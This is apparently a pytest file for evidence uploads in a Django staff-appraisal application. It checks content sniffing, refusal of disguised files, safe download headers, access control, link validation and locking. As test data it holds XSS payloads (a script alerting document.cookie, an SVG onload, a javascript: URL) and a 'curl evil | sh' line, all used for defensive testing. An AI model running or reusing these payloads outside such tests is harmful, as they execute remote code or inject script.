"""Evidence (bukti dukung): uploads judged by content, links, downloads, deletion, the lock."""

from __future__ import annotations

from decimal import Decimal

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse

from kinerja.appraisal.models import Evidence
from kinerja.appraisal.services import execution as services
from kinerja.core.models import AuditEntry
from tests.appraisal.conftest import docx_bytes, indicator, pdf_bytes, png_bytes, upload
from tests.appraisal.test_execution_realisation import QUANTITY, _finalise


@pytest.fixture
def realisation(world, executed_plan):
    return services.record_realisation(
        executed_plan,
        actor=world.users["pegawai"],
        indicator=indicator(executed_plan, QUANTITY),
        subperiod=1,
        value=Decimal(3),
    )


def _upload_url(realisation):
    return reverse("appraisal:evidence-upload", args=[realisation.pk])


@pytest.mark.parametrize(
    ("name", "build", "content_type"),
    [
        ("laporan.pdf", pdf_bytes, "application/pdf"),
        ("foto.png", png_bytes, "image/png"),
        (
            "notulen.docx",
            docx_bytes,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
    ],
)
def test_real_documents_are_accepted_on_the_page(
    world, realisation, login, name, build, content_type
):
    content = build()
    response = login("pegawai").post(
        _upload_url(realisation),
        {
            f"f{realisation.pk}-file": upload(name, content, "application/octet-stream"),
            f"f{realisation.pk}-description": "Bukti triwulan I",
        },
    )

    assert response.status_code == 302
    stored = Evidence.objects.get()
    assert (stored.kind, stored.original_name, stored.content_type, stored.size) == (
        "file",
        name,
        content_type,
        len(content),
    )
    assert stored.file.name == f"evidence/{world.agency.pk}/{stored.sha256[:2]}/{stored.sha256}"
    assert name not in stored.file.name
    with default_storage.open(stored.file.name, "rb") as handle:
        assert handle.read() == content
    entry = AuditEntry.objects.get(action="appraisal.evidence.added")
    assert entry.changes["sha256"] == [None, stored.sha256]


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("laporan.pdf", b"MZ\x90\x00" + b"\x00" * 200, "program Windows"),
        ("foto.png", b"\x7fELF\x02\x01" + b"\x00" * 200, "program Linux"),
        ("laporan.pdf", b"<!doctype html><script>alert(document.cookie)</script>", "HTML"),
        ("grafik.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SVG"),
        ("notulen.docx", b"#!/bin/bash\ncurl evil | sh\n", "skrip"),
    ],
)
def test_disguised_files_are_refused_on_the_page_and_the_api(
    world, realisation, login, name, content, reason
):
    client = login("pegawai")
    page = client.post(
        _upload_url(realisation),
        {f"f{realisation.pk}-file": upload(name, content, "application/pdf")},
    )
    api = client.post(
        reverse("api-evidence-list", args=[realisation.pk]),
        {"file": upload(name, content, "image/png")},
    )

    assert page.status_code == 400
    assert reason in page.content.decode()
    assert api.status_code == 400
    assert reason in api.json()["file"][0]
    assert api.json()["file"][0].startswith("Berkas ditolak:")
    assert Evidence.objects.count() == 0


def test_size_limit_comes_from_the_setting(world, realisation, login, settings):
    settings.EVIDENCE_MAX_MB = 1
    big = pdf_bytes() + b"%" * (1024 * 1024)

    response = login("pegawai").post(
        reverse("api-evidence-list", args=[realisation.pk]), {"file": upload("besar.pdf", big)}
    )

    assert response.status_code == 400
    assert response.json()["file"] == ["Ukuran berkas melebihi batas 1 MB."]
    assert Evidence.objects.count() == 0


def test_download_is_an_attachment_with_the_sniffed_type_for_those_who_see_the_plan(
    world, realisation, login
):
    evidence = services.add_evidence_file(
        realisation,
        actor=world.users["pegawai"],
        upload=upload("laporan.exe", pdf_bytes(), "application/x-msdownload"),
    )
    for persona in ("pegawai", "atasan", "kepala", "admin_bkpsdm"):
        client = login(persona)
        for url in (
            reverse("appraisal:evidence-download", args=[evidence.pk]),
            reverse("api-evidence-detail", args=[evidence.pk]),
        ):
            response = client.get(url)
            assert response.status_code == 200, (persona, url)
            assert response["Content-Type"] == "application/pdf"
            assert response["Content-Disposition"] == 'attachment; filename="laporan.pdf"'
            assert response["X-Content-Type-Options"] == "nosniff"
            assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
            assert b"".join(response.streaming_content) == pdf_bytes()
    for persona in ("rekan", "admin_agensi_lain"):
        client = login(persona)
        assert (
            client.get(reverse("appraisal:evidence-download", args=[evidence.pk])).status_code
            == 404
        )
        assert client.get(reverse("api-evidence-detail", args=[evidence.pk])).status_code == 404


def test_media_is_not_served_publicly(world, realisation, client):
    evidence = services.add_evidence_file(
        realisation, actor=world.users["pegawai"], upload=upload("laporan.pdf", pdf_bytes())
    )
    assert client.get(f"/media/{evidence.file.name}").status_code == 404
    assert client.get(f"/{evidence.file.name}").status_code == 404


def test_links_are_http_only_and_listed_in_the_api(world, realisation, login):
    client = login("pegawai")
    url = reverse("api-evidence-list", args=[realisation.pk])

    bad = client.post(url, {"url": "javascript:alert(1)"})
    good = client.post(
        reverse("appraisal:evidence-link", args=[realisation.pk]),
        {
            f"l{realisation.pk}-url": "https://palembang.go.id/rekap",
            f"l{realisation.pk}-description": "Rekap",
        },
    )
    listed = client.get(url).json()

    assert bad.status_code == 400
    assert "http:// atau https://" in bad.json()["url"][0]
    assert good.status_code == 302
    assert [(row["kind"], row["url"], row["download_url"]) for row in listed["results"]] == [
        ("link", "https://palembang.go.id/rekap", None)
    ]


def test_only_the_owner_adds_evidence(world, realisation, login):
    response = login("atasan").post(
        reverse("api-evidence-list", args=[realisation.pk]), {"file": upload("a.pdf", pdf_bytes())}
    )
    page = login("atasan").post(
        _upload_url(realisation), {f"f{realisation.pk}-file": upload("a.pdf", pdf_bytes())}
    )
    assert (response.status_code, page.status_code) == (403, 403)
    assert Evidence.objects.count() == 0


def test_evidence_is_deleted_while_editable_and_locked_when_final(
    world, executed_plan, realisation, login
):
    pegawai = world.users["pegawai"]
    first = services.add_evidence_file(
        realisation, actor=pegawai, upload=upload("a.pdf", pdf_bytes())
    )
    twin = services.add_evidence_file(
        realisation, actor=pegawai, upload=upload("salinan.pdf", pdf_bytes())
    )
    assert first.file.name == twin.file.name  # the same content is stored once
    client = login("pegawai")

    deleted = client.post(reverse("appraisal:evidence-delete", args=[first.pk]))
    assert deleted.status_code == 302
    assert list(Evidence.objects.values_list("pk", flat=True)) == [twin.pk]
    assert default_storage.exists(twin.file.name)  # still used by the twin
    assert AuditEntry.objects.filter(action="appraisal.evidence.deleted").count() == 1

    _finalise(executed_plan, 1)
    page = client.post(reverse("appraisal:evidence-delete", args=[twin.pk]))
    api = client.delete(reverse("api-evidence-detail", args=[twin.pk]))
    upload_after = client.post(
        reverse("api-evidence-list", args=[realisation.pk]), {"file": upload("b.pdf", pdf_bytes())}
    )

    assert page.status_code == 302
    assert api.status_code == 400
    assert "sudah ditetapkan final" in api.json()["non_field_errors"][0]
    assert upload_after.status_code == 400
    assert list(Evidence.objects.values_list("pk", flat=True)) == [twin.pk]
    sheet = client.get(reverse("appraisal:realisation", args=[executed_plan.pk, 1]))
    assert "Hapus bukti" not in sheet.content.decode()


def test_last_user_of_a_stored_file_removes_it(
    world, realisation, login, django_capture_on_commit_callbacks
):
    evidence = services.add_evidence_file(
        realisation, actor=world.users["pegawai"], upload=upload("a.png", png_bytes())
    )
    name = evidence.file.name
    with django_capture_on_commit_callbacks(execute=True):
        services.delete_evidence(evidence, actor=world.users["pegawai"])
    assert not default_storage.exists(name)
